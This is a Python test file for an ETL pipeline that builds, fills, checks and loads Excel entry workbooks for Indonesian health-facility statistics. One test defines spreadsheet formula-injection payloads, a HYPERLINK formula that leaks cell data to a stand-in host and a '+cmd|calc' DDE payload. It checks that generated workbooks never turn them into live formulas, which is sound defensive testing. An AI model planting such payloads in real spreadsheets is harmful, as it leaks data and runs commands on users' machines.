"""The entry workbook in the journey: dropped under any name, checked, loaded, released; and what is wrong with one."""

from __future__ import annotations

import shutil
import zipfile
from datetime import UTC, datetime
from decimal import Decimal

import pytest

from etl.catalogue import load_contracts
from etl.check import check_file
from etl.collect import warehouse
from etl.entry.plan import make_plan
from etl.entry.recognise import recognise
from etl.entry.write import workbook
from etl.findings import Refused
from etl.load.dimensions import read_regions
from etl.load.released import Released, last_released
from etl.pipeline import decide
from tests.entry.people import cell
from tests.warehouse.regency import CONTRACT, KECAMATAN, Regency

AT = datetime(2026, 11, 23, 3, tzinfo=UTC)
LAST_YEAR = dict.fromkeys(KECAMATAN, (10, 20))


@pytest.fixture
def regency(tmp_path, warehouse_dsn):
    return Regency(tmp_path, warehouse_dsn)


def template(regency, period="2025", released=()):
    contract = load_contracts(regency.settings.datasets).contracts["dinkes.puskesmas"]
    with warehouse(regency.settings) as conn:
        regions = read_regions(conn)
    return make_plan(contract, regions, released, agency="Dinas Kesehatan", period=period)


def fill(office, plan, target, typed):
    source = target.with_name("kosong.xlsx.asli")
    source.write_bytes(workbook(plan, AT))
    office.fill(source, typed, target)
    office.work()
    source.unlink()
    Regency.age(target)
    return target


def everything(plan, value=12):
    figures = [at for at, column in enumerate(plan.columns) if column.kind == "angka"]
    return {cell(at, row): value + at for at in figures for row in range(plan.first_row, plan.last_row + 1)}


def test_from_last_years_file_to_this_years_workbook(regency, office):
    """Last year's release stands beside the cells; the filled workbook loads, and every figure names its cell."""
    regency.drop("puskesmas 2024.xlsx", LAST_YEAR)
    regency.go()
    assert len(regency.figures()) == 4
    with warehouse(regency.settings) as conn:
        released = last_released(conn, "dinkes.puskesmas", "2025")
    assert Released("2024", "kesehatan.pustu", "64.08.02", "", Decimal(20), None) in released
    plan = template(regency, released=released)
    assert (plan.before, plan.compares) == ("2024", True)
    assert plan.rows[1].before[2:4] == (Decimal(10), Decimal(20))

    typed = {**everything(plan), "C11": 12.25, "E11": "Puskesmas baru di Wahau"}
    fill(office, plan, regency.folder / "puskesmas isian.xlsx", typed)
    (outcome,) = regency.go()
    assert (outcome.status, outcome.received) == ("menunggu", 18)
    told = regency.query("SELECT rule, row_no, col FROM audit.finding WHERE submission_id = %s", outcome.submission_id)
    assert ("catatan_operator", plan.first_row + 1, "E") in told
    decide(regency.settings, outcome.submission_id, "dirilis", "Siti", "sesuai")
    found = regency.figures()
    assert len(found) == 4 + 18
    assert found["64.08.02", "2025"] == 12.25
    assert found["64.08.02", "2024"] == 10
    origin = (
        "SELECT berkas, lembar, kolom, baris FROM portal.asal_angka WHERE wilayah = %s AND periode = %s AND nilai = %s"
    )
    (place,) = regency.query(origin, "64.08.02", "2025", 12.25)
    assert place == ("puskesmas isian.xlsx", "Isian", "C", plan.first_row + 1)


def test_it_replaces_its_own_period_only_even_where_the_dataset_is_sent_whole(regency, office):
    regency.contract(CONTRACT.replace("POLICY", "otomatis").replace("load: periode", "load: penuh"))
    regency.drop("puskesmas 2024.xlsx", LAST_YEAR)
    regency.go()
    plan = template(regency)
    fill(office, plan, regency.folder / "puskesmas tempel.xlsx", everything(plan, 9))
    regency.go()
    periods = {period for _, period in regency.figures()}
    assert periods == {"2024", "2025"}


def test_an_untouched_template_is_sent_back_in_words(regency, office):
    fill(office, template(regency), regency.folder / "puskesmas kosong.xlsx", {})
    (outcome,) = regency.go()
    assert outcome.status == "dikembalikan"
    assert "templat_kosong" in outcome.findings[0]
    assert "Isi sel berwarna krem" in outcome.findings[0]


def test_another_datasets_template_is_sent_back_in_words(regency, office, tmp_path):
    target = fill(office, template(regency), tmp_path / "puskesmas.xlsx", everything(template(regency)))
    text = CONTRACT.replace("POLICY", "otomatis").replace("dinkes.puskesmas", "dinkes.lain")
    for old, new in (("kesehatan.puskesmas", "lain.a"), ("kesehatan.pustu", "lain.b"), ("puskesmas*", "lain*")):
        text = text.replace(old, new)
    regency.contract(text, "lain")
    other = load_contracts(regency.settings.datasets).contracts["dinkes.lain"]
    with pytest.raises(Refused, match="templat_dataset_lain"):
        check_file(regency.settings, target, other)


def test_an_old_template_is_read_with_a_note(regency, office, tmp_path):
    plan = template(regency)
    target = fill(office, plan, tmp_path / "isian.xlsx", everything(plan))
    new = CONTRACT.replace("POLICY", "otomatis").replace("aliases: [Pustu]", "aliases: [Puskesmas Pembantu]")
    regency.contract(new)
    contract = load_contracts(regency.settings.datasets).contracts["dinkes.puskesmas"]
    tidy, _, _ = check_file(regency.settings, target, contract)
    assert tidy.figures.num_rows == 36
    (note,) = tidy.findings
    assert (note.rule, note.severity, note.row) == ("templat_lama", "catatan", None)
    assert "templat baru" in note.action


def test_a_contract_that_grew_a_column_says_which(regency, office, tmp_path):
    plan = template(regency)
    target = fill(office, plan, tmp_path / "isian.xlsx", everything(plan))
    more = "  klinik: {role: ukuran, indikator: kesehatan.pustu, aliases: [Klinik], rincian: {jenis: klinik}}\ntotals:"
    regency.contract(CONTRACT.replace("POLICY", "otomatis").replace("totals:", more, 1))
    contract = load_contracts(regency.settings.datasets).contracts["dinkes.puskesmas"]
    with pytest.raises(Refused, match="Kolom wajib `Klinik`"):
        check_file(regency.settings, target, contract)


def test_only_the_cells_to_fill_can_be_typed_into(regency, office, tmp_path):
    plan = template(regency)
    locked = {"A11": "64.08.99", "B11": "Bukan", "C9": "Kepala lain", "C28": 5, "G11": 1}
    target = fill(office, plan, tmp_path / "isian.xlsx", {**everything(plan), **locked})
    contract = load_contracts(regency.settings.datasets).contracts["dinkes.puskesmas"]
    tidy, _, _ = check_file(regency.settings, target, contract)
    assert tidy.figures.num_rows == 36
    assert tidy.rows["kecamatan"].iloc[1] == "64.08.02"


EVIL = '=HYPERLINK("http://jahat.example/"&A1,"klik")'


def test_texts_from_outside_are_never_formulas(regency, office, tmp_path):
    """A name, an alias, a unit and a breakdown of the last release that look like formulas stay texts."""
    text = CONTRACT.replace("POLICY", "otomatis").replace("aliases: [Pustu]", "aliases: ['=1+1', Pustu]")
    text = text.replace("nama: Jumlah pustu", "nama: '@SUM(A1:A9)'").replace("satuan: unit", "satuan: '-2+3'")
    text = text.replace("columns:\n", "columns:\n  jenis: {role: rincian, aliases: ['+cmd|calc!A1']}\n")
    regency.contract(text)
    evil = EVIL.replace("=", ":", 1)  # a breakdown's code has no `=`
    codes = [f"jenis={one}" for one in (evil, "+1+1", "@A1", "-3", "\t+5")]
    released = [Released("2024", "kesehatan.puskesmas", "64.08.01", code, None, EVIL) for code in codes]
    plan = template(regency, released=released)
    typed = {cell(3, row): 4 for row in range(plan.first_row, plan.first_row + len(codes))}
    target = fill(office, plan, tmp_path / "isian.xlsx", typed)
    raw = tmp_path / "mentah.xlsx"
    raw.write_bytes(workbook(plan, AT))
    for path in (raw, target):
        with zipfile.ZipFile(path) as package:
            sheets = "".join(
                package.read(p).decode() for p in package.namelist() if p.startswith("xl/worksheets/sheet")
            )
            names = package.namelist()
        for word in ("HYPERLINK", "cmd|", "@SUM", "@A1", "+1+1", "1+1"):
            assert not any(word in formula for formula in formulas_of(sheets)), (path.name, word)
        assert "hyperlink" not in sheets.lower()
        assert not any("externalLink" in name for name in names)
    with zipfile.ZipFile(raw) as package:
        assert 'quotePrefix="1"' in package.read("xl/styles.xml").decode()
    contract = load_contracts(regency.settings.datasets).contracts["dinkes.puskesmas"]
    tidy, _, _ = check_file(regency.settings, target, contract)
    read = set(tidy.figures["rincian"].to_pylist())
    assert {f"jenis={evil}", "jenis=+1+1", "jenis=@A1", "jenis=-3"} <= read


def formulas_of(xml: str) -> list[str]:
    import re

    return re.findall(r"<(?:f|formula\d?)(?: [^>]*)?>([^<]*)<", xml)


def test_recognising_costs_next_to_nothing(regency, tmp_path):
    """Files that are none of ours are told by their list of sheets."""
    import time

    other = regency.drop("puskesmas 2024.xlsx", LAST_YEAR)
    text = tmp_path / "data.csv"
    text.write_text("a;b\n" * 100_000)
    damaged = tmp_path / "rusak.xlsx"
    damaged.write_bytes(other.read_bytes()[:2000])
    empty = tmp_path / "kosong.xlsx"
    empty.touch()
    for path, most in ((other, 0.05), (text, 0.02), (damaged, 0.05), (empty, 0.02)):
        recognise(path, path.name)
        start = time.perf_counter()
        assert recognise(path, path.name) is None
        assert time.perf_counter() - start < most, "tens of times what it takes here"
    shutil.copy(other, tmp_path / "_satudata.xlsx")
    assert recognise(tmp_path / "_satudata.xlsx", "_satudata.xlsx") is None
